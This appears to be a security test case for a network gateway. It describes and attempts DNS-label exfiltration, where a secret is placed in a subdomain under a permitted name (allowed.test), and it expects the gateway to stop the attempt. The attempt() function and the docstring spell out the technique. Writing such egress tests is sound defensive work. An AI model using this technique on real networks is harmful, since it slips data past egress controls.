"""A secret in a label below the permitted name.

The zone's owner, and every resolver on the way, sees the questions. A rule for `allowed.test`
permits that host; a gateway that asks upstream for whatever ends like it carries the label out.

Not covered: a wildcard rule, which permits the names below and so their questions.
"""

ATTACK = {
    "title": "Secret in a label below a permitted name",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-200", "ATT&CK T1048.003", "R044"],
    "zone": {"*.allowed.test": {"a": ["93.184.216.34"]}},
    "arrives": [
        {"what": "question", "name": "*.allowed.test"},
        {"what": "request", "name": "*.allowed.test"},
    ],
    "stopped": [
        {"reason": ["not-listed"], "entry": ["dns"], "where": {"name": "*.allowed.test"}},
    ],
}


def attempt(kit):
    host = f"{kit.word}.allowed.test"
    kit.resolve(host)
    kit.talk(host, 80, kit.get("/", host))
